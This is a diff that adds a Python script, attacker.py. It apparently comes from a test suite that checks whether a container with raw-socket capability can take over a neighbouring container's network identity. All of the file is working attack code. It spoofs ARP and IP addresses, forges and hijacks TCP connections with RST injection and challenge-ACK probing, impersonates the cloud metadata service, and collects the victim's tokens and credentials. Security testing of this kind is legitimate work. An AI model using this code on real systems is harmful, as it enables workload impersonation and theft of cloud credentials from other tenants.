@@ -1,0 +1,284 @@
+"""What a hostile container does to its neighbours' identity, with CAP_NET_RAW and no more (`address_added` needs CAP_NET_ADMIN).
+
+Usage: attacker.py ORDER_JSON. Prints what it got, as JSON. Stops by itself after `seconds`, or with the first credentials.
+The order: {"attack": a function below, "seconds", "victim", "host": the host's address on this bridge, ...what the attack wants}.
+"""
+import ipaddress
+import json
+import random
+import socket
+import subprocess
+import sys
+import time
+
+from frames import ACK, IPV4, IPV6, RST, SYN, parse_tcp, tcp
+from loot import Loot, whole_answer
+from raw_tcp import Connection
+from wire import Wire
+
+# Nobody's: the attacker's own kernel would meddle with answers that come to its own MAC.
+GHOST = "02:66:00:00:00:66"
+METADATA = ("169.254.169.254", 80)
+METADATA6 = ("fd00:ec2::254", 80)
+
+
+class Attack:
+    def __init__(self, order):
+        self.order = order
+        self.loot = Loot()
+        self.end = time.monotonic() + order["seconds"]
+        self.wire = Wire(order.get("interface", "eth0"), order.get("tags", ()), order.get("arpHardware", 1))
+        self.victim, self.host = order["victim"], order["host"]
+        self.host_mac = self.wire.resolve(self.host)
+        self.victim_mac = self.wire.resolve(self.victim) if order.get("reachesVictim", True) else None
+        self.mac = {"ghost": GHOST, "own": self.wire.mac, "victim": self.victim_mac}[order.get("mac", "ghost")]
+        self.service = METADATA6 if ":" in self.victim else METADATA
+        self.ask_at = tuple(order.get("ask", self.service))
+        self.api = order.get("api", "imds")
+
+    def over(self):
+        return self.loot.done() or time.monotonic() >= self.end
+
+    def be_victim(self):
+        """The host sends to us what is meant for the victim."""
+        self.wire.claim(self.victim, self.mac, self.host, self.host_mac)
+        self.wire.pump(0.05)
+
+    def send(self, target_mac, packet):
+        self.wire.send(target_mac, self.mac, IPV6 if ":" in self.victim else IPV4, packet)
+
+    def connect(self, source_port, target, seconds=0.6):
+        """From the victim's address to the host."""
+        return self.between((self.victim, source_port), target, self.host_mac, seconds)
+
+    def between(self, source, target, target_mac, seconds=0.6):
+        one = Connection(self.wire, source, target, self.mac, target_mac)
+        one.open(seconds)
+        return one
+
+    def exchange_on(self, connection):
+        def exchange(data):
+            begun = len(connection.received)
+            answer = lambda: whole_answer(connection.received[begun:])  # noqa: E731
+            connection.say(data, 3.0, lambda: answer() is not None)
+            return answer()
+
+        return exchange
+
+    def ask(self, connection):
+        if connection.state != "open":
+            self.loot.note("no connection to %s port %d: %s" % (*connection.target, connection.state))
+            return
+        self.loot.opened += 1
+        self.loot.ask(self.api, self.exchange_on(connection))
+
+    def round(self, source_port, target=None):
+        self.loot.rounds += 1
+        connection = self.connect(source_port, target or self.ask_at)
+        self.ask(connection)
+        connection.abort()
+        return connection
+
+    # The attacks.
+
+    def theft(self):
+        """Takes the victim's address on its own bridge, and asks."""
+        self.be_victim()
+        while not self.over():
+            self.round(random.randrange(20000, 60000))
+
+    def forged_accept(self):
+        """Connects to a port on which the victim listens, as the other end that the proof looks for, and asks as victim:port."""
+        port, forged = self.order["victimPort"], tuple(self.order["as"])
+        # The victim answers to its gateway, or to that very address where it is on its network.
+        for address in {self.host, forged[0]}:
+            self.wire.claim(address, self.mac, self.victim, self.victim_mac)
+        self.be_victim()
+        while not self.over():
+            accepted = self.between(forged, (self.victim, port), self.victim_mac)
+            if accepted.state == "open":
+                self.round(port)
+            else:
+                self.loot.rounds += 1
+                self.loot.note("the victim does not accept: %s" % accepted.state)
+            accepted.abort()
+            self.wire.pump(0.02)
+
+    def port_reuse(self):
+        """Asks from ports on which the victim may have a connection to the metadata service."""
+        low, high = self.order["ports"]
+        self.be_victim()
+        if self.order.get("endKept", False):
+            self.end_kept(low)
+        while not self.over():
+            for port in range(low, high + 1):
+                if self.over():
+                    break
+                self.round(port)
+
+    def challenge(self, port, tries=5):
+        """Where the victim's kept connection stands: its server answers a second SYN with just that (RFC 5961). None if there is none."""
+        for _ in range(tries):
+            probe = self.connect(port, self.service)
+            if probe.challenge is not None:
+                return probe
+            probe.abort()
+            self.wire.pump(0.6 if tries > 1 else 0)
+        if tries > 1:
+            self.loot.note("the host has no connection of port %d" % port)
+        return None
+
+    def end_other(self, probe):
+        """Ends the connection that the host has where `probe` would have its own."""
+        packet = tcp(*probe.source, *probe.target, probe.challenge[1], 0, RST)
+        self.send(self.host_mac, packet)
+        probe.abort()
+
+    def end_kept(self, port):
+        """Ends the host's side of the kept connection; the victim, which hears nothing of it, keeps its own established."""
+        probe = self.challenge(port)
+        if probe is not None:
+            self.end_other(probe)
+            self.loot.note("the host's side of the kept connection is ended")
+            # The translation of a connection that was reset is remembered for ten seconds, and its ports are taken for so long.
+            self.wire.pump(self.order.get("settle", 0))
+
+    def kept_injected(self):
+        """Speaks on the victim's kept connection, which is proven already."""
+        low, high = self.order["ports"]
+        self.be_victim()
+        while not self.over():
+            for port in range(low, high + 1):
+                self.loot.rounds += 1
+                probe = self.challenge(port, 5 if low == high else 1)
+                if probe is not None:
+                    probe.adopt()
+                    self.ask(probe)
+                    self.wire.connections.clear()
+                if self.over():
+                    return
+
+    def impersonation(self):
+        """Plays the metadata service to the victim, so that the victim itself opens the connection that the proof looks for."""
+        seen = []
+
+        def note(kind, payload, source_mac):
+            segment = parse_tcp(kind, payload)
+            if segment is not None and (segment.source, segment.target, segment.target_port) == (self.victim, *self.service):
+                seen.append(segment)
+
+        self.wire.claim(self.host, self.mac, self.victim, self.victim_mac)
+        self.be_victim()
+        self.wire.sniffers.append(note)
+        while not self.over():
+            self.wire.pump(0.2, lambda: bool(seen))
+            for asked in [segment for segment in seen if segment.flags & (SYN | ACK) == SYN]:
+                port, ours = asked.source_port, random.getrandbits(31)
+                answer = tcp(*self.service, self.victim, port, ours, asked.sequence + 1, SYN | ACK)
+                self.send(self.victim_mac, answer)
+                agreed = lambda: any(one.flags & ACK and one.acknowledged == ours + 1 for one in seen)  # noqa: E731
+                self.wire.pump(0.3, agreed)
+                if agreed() and not self.over():
+                    connection = self.round(port)
+                    if connection.challenge is not None:
+                        # The victim's connection before this one had the same port, and the host has not heard of its end.
+                        self.end_other(connection)
+                        self.round(port)
+            seen.clear()
+
+    def across(self):
+        """Sends as the victim by way of another bridge that it is also on; answers come to the victim's bridge, where it takes them."""
+        other = Wire(self.order["otherInterface"])
+        other_mac = other.resolve(self.order["otherHost"])
+        self.be_victim()
+        while not self.over():
+            self.loot.rounds += 1
+            source = (self.victim, random.randrange(20000, 60000))
+            connection = Connection(other, source, self.ask_at, other.mac, other_mac, hears=self.wire)
+            connection.open(0.6)
+            self.ask(connection)
+            connection.abort()
+
+    def across_blind(self):
+        """From a bridge that the victim is not on: answers go to the victim, so it guesses; and keeps what it can hear."""
+        heard = []
+        self.wire.sniffers.append(lambda kind, payload, source_mac: heard.append(payload))
+        while not self.over():
+            self.round(random.randrange(20000, 60000))
+            guess = Connection(self.wire, (self.victim, random.randrange(20000, 60000)), self.ask_at, self.mac, self.host_mac)
+            guess.challenge = (random.getrandbits(32), guess.sequence)
+            guess.adopt()
+            self.loot.ask(self.api, lambda data: guess.say(data, 0.1, lambda: guess.received != b""))
+            guess.abort()
+        self.loot.text.append(b"".join(heard).decode("latin1"))
+
+    def address_added(self):
+        """Gives itself the victim's address, and asks with ordinary sockets."""
+        length, options = ("/64", ["nodad"]) if ":" in self.victim else ("/16", [])
+        # The image has an `ip` of its own on the path, which knows less.
+        change = lambda what, *more: subprocess.run(  # noqa: E731
+            ["/usr/bin/ip", "address", what, self.victim + length, "dev", "eth0", *more], check=True
+        )
+        change("add", *options)
+        self.mac = self.wire.mac
+        try:
+            while not self.over():
+                self.loot.rounds += 1
+                self.be_victim()
+                self._ask_by_kernel()
+        finally:
+            change("del")
+
+    def _ask_by_kernel(self):
+        try:
+            with socket.create_connection(self.ask_at, 1.0, (self.victim, 0)) as connection:
+                self.loot.opened += 1
+
+                def exchange(data):
+                    connection.sendall(data)
+                    received = b""
+                    while whole_answer(received) is None:
+                        part = connection.recv(65536)
+                        if part == b"":
+                            return None
+                        received += part
+                    return whole_answer(received)
+
+                self.loot.ask(self.api, exchange)
+        except OSError as error:
+            self.loot.note("asking from %s: %s" % (self.victim, error))
+
+
+ATTACKS = ("theft", "forged_accept", "port_reuse", "kept_injected", "impersonation", "across", "across_blind", "address_added")
+
+
+def capabilities():
+    with open("/proc/self/status") as status:
+        return next(line.split()[1] for line in status if line.startswith("CapEff:"))
+
+
+def main(order):
+    if order["attack"] == "capabilities":
+        return {"capabilities": capabilities()}
+    if order["attack"] not in ATTACKS:
+        raise SystemExit("attacker.py: there is no attack %r" % order["attack"])
+    for key in ("victim", "host"):
+        order[key] = str(ipaddress.ip_address(order[key]))
+    attack = Attack(order)
+    getattr(attack, order["attack"])()
+    loot = attack.loot
+    return {
+        "capabilities": capabilities(),
+        "rounds": loot.rounds,
+        "opened": loot.opened,
+        "answers": loot.answers,
+        "tokens": loot.tokens,
+        "roles": loot.roles,
+        "credentials": loot.credentials,
+        "bytes": loot.bytes,
+        "notes": loot.notes,
+        "text": "\n".join(loot.text),
+    }
+
+
+print(json.dumps(main(json.loads(sys.argv[1]))))
